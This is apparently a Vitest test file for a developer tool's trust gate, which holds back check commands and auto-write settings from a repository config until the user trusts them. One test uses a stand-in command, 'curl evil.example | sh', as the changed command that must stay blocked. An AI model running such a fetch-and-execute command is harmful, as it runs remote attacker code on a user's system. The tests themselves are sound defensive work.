import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { LayerInput } from '../../src/config/resolve.js';
import {
  checksFingerprint,
  forgetTrust,
  isTrusted,
  readVerifyWithChecks,
  resolveGatedConfig,
  setVerifyWithChecks,
  trustSettings,
} from '../../src/config/trust.js';

const dirs: string[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

function trustFile(): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'hearth-trust-'));
  dirs.push(dir);
  return path.join(dir, 'config', 'trusted-checks.json');
}

const tsc = { name: 'tsc', command: 'npx tsc --noEmit', parser: 'tsc' };
const repoLayer = (values: Record<string, unknown>): LayerInput => ({
  source: '/r/.hearth.json',
  values,
});
const gate = (values: Record<string, unknown>, file: string, repo = '/r', user?: LayerInput) =>
  resolveGatedConfig({ user, repo: repoLayer(values), env: {} }, repo, file);

describe('trusting a repository checks', () => {
  it('holds back repo checks until trusted, and again after any change to them', () => {
    const file = trustFile();
    const gated = gate({ checks: [tsc] }, file);
    expect(gated.values.checks).toEqual([]);
    expect(gated.untrusted?.checks).toEqual([{ ...tsc, timeoutMs: expect.any(Number) }]);
    expect(gated.warnings.at(-1)).toBe(
      'the checks in /r/.hearth.json (`npx tsc --noEmit`) do not run until you trust them: hearth trust /r',
    );

    trustSettings(file, '/r', gated.untrusted ?? {});
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const trusted = gate({ checks: [tsc] }, file);
    expect(trusted.untrusted).toBeUndefined();
    expect(trusted.values.checks).toHaveLength(1);
    // Trust is per repository: the same commands elsewhere are not trusted.
    expect(gate({ checks: [tsc] }, file, '/other').values.checks).toEqual([]);

    const changed = gate({ checks: [{ ...tsc, command: 'curl evil.example | sh' }] }, file);
    expect(changed.untrusted?.checks).toHaveLength(1);
    expect(changed.values.checks).toEqual([]);

    expect(forgetTrust(file, '/r')).toBe(true);
    expect(forgetTrust(file, '/r')).toBe(false);
    expect(isTrusted(file, '/r', gated.untrusted ?? {})).toBe(false);
  });

  it('never gates checks from the user, the environment or flags', () => {
    const file = trustFile();
    const user = { source: '/home/u/config.json', values: { checks: [tsc] } };
    const gated = resolveGatedConfig({ user, env: {} }, '/r', file);
    expect(gated.untrusted).toBeUndefined();
    expect(gated.values.checks).toHaveLength(1);
  });

  it('fingerprints what runs, not the order of keys; an unreadable trust file trusts nothing', () => {
    const checks = gate({ checks: [tsc] }, trustFile()).untrusted?.checks as never[];
    const reordered = checks.map((check) => Object.fromEntries(Object.entries(check).reverse()));
    expect(checksFingerprint(reordered as never)).toBe(checksFingerprint(checks));
    const file = trustFile();
    trustSettings(file, '/r', { checks });
    expect(JSON.parse(readFileSync(file, 'utf8')).repos['/r'].settings).toMatch(/^[0-9a-f]{64}$/);
    rmSync(file);
    expect(isTrusted(file, '/r', { checks })).toBe(false);
  });

  it('keeps trust that an earlier version gave to checks alone', () => {
    const file = trustFile();
    const checks = gate({ checks: [tsc] }, file).untrusted?.checks as never[];
    mkdirSync(path.dirname(file), { recursive: true });
    const old = { '/r': { checks: checksFingerprint(checks), trustedAt: '2026-11-01T00:00:00Z' } };
    writeFileSync(file, JSON.stringify({ version: 1, repos: old }));
    expect(gate({ checks: [tsc] }, file).values.checks).toHaveLength(1);
  });
});

describe('letting checks that run code verify fixes', () => {
  it('is off until the user turns it on for that repository, and survives trusting again', () => {
    const file = trustFile();
    expect(readVerifyWithChecks(file, '/r')).toBe(false);
    setVerifyWithChecks(file, '/r', true);
    expect(readVerifyWithChecks(file, '/r')).toBe(true);
    expect(readVerifyWithChecks(file, '/other')).toBe(false);
    // Turning it on trusts no settings.
    const gated = gate({ checks: [tsc] }, file);
    expect(gated.values.checks).toEqual([]);
    trustSettings(file, '/r', gated.untrusted ?? {});
    expect(gate({ checks: [tsc] }, file).values.checks).toHaveLength(1);
    expect(readVerifyWithChecks(file, '/r')).toBe(true);
    setVerifyWithChecks(file, '/r', false);
    expect(readVerifyWithChecks(file, '/r')).toBe(false);
    expect(gate({ checks: [tsc] }, file).values.checks).toHaveLength(1);
  });

  it("a repo file's claim that its command runs no code is refused, and said while it waits for trust", () => {
    const tests = { name: 'tests', command: 'npm test', parser: 'generic', runsCode: false };
    const gated = gate({ checks: [tests] }, trustFile());
    expect(gated.warnings.join('\n')).toContain('refused runsCode = false for `npm test`');
    const held = (gated.untrusted?.checks ?? []) as Array<{ runsCode?: boolean }>;
    expect(held).toHaveLength(1);
    expect(held[0]?.runsCode).toBeUndefined();
  });

  it('is forgotten with the trust (hearth unwatch)', () => {
    const file = trustFile();
    setVerifyWithChecks(file, '/r', true);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(forgetTrust(file, '/r')).toBe(true);
    expect(readVerifyWithChecks(file, '/r')).toBe(false);
  });
});

describe('repo settings that make hearth write by itself', () => {
  it('docstrings.mode "auto" from a repo file waits for trust; the user config below still counts', () => {
    const file = trustFile();
    const gated = gate({ docstrings: { mode: 'auto' } }, file);
    expect(gated.values.docstrings.mode).toBe('suggest');
    expect(gated.untrusted).toEqual({ 'docstrings.mode': 'auto' });
    expect(gated.warnings.at(-1)).toBe(
      '/r/.hearth.json sets docstrings.mode = "auto" (hearth writes docstrings into files by itself): not honoured until you trust it: hearth trust /r',
    );
    const user = { source: '/home/u/config.json', values: { docstrings: { mode: 'off' } } };
    expect(gate({ docstrings: { mode: 'auto' } }, file, '/r', user).values.docstrings.mode).toBe(
      'off',
    );

    trustSettings(file, '/r', gated.untrusted ?? {});
    expect(gate({ docstrings: { mode: 'auto' } }, file).values.docstrings.mode).toBe('auto');
  });

  it('a repo file that only tightens (suggest, off, no notes) needs no trust', () => {
    const file = trustFile();
    for (const values of [
      { docstrings: { mode: 'off' } },
      { docstrings: { mode: 'suggest' } },
      { reviews: { notes: false } },
    ]) {
      expect(gate(values, file).untrusted).toBeUndefined();
    }
  });

  it('trusts checks, auto docstrings and notes together; changing one needs trust again', () => {
    const file = trustFile();
    const values = { checks: [tsc], docstrings: { mode: 'auto' }, reviews: { notes: true } };
    const gated = gate(values, file);
    expect(Object.keys(gated.untrusted ?? {}).sort()).toEqual([
      'checks',
      'docstrings.mode',
      'reviews.notes',
    ]);
    expect(gated.values.reviews.notes).toBe(false);
    trustSettings(file, '/r', gated.untrusted ?? {});
    const trusted = gate(values, file);
    expect(trusted.values.reviews.notes).toBe(true);
    expect(trusted.values.docstrings.mode).toBe('auto');
    // Trusting the checks with auto docstrings is not trusting the checks alone with notes.
    const other = gate({ checks: [tsc], reviews: { notes: true } }, file);
    expect(other.untrusted).toBeDefined();
    expect(other.values.checks).toEqual([]);
  });

  it('an environment variable or flag setting auto mode is the user speaking: no trust needed', () => {
    const file = trustFile();
    const gated = resolveGatedConfig(
      {
        repo: repoLayer({ docstrings: { mode: 'suggest' } }),
        env: { HEARTH_DOCSTRINGS_MODE: 'auto' },
      },
      '/r',
      file,
    );
    expect(gated.untrusted).toBeUndefined();
    expect(gated.values.docstrings.mode).toBe('auto');
  });
});
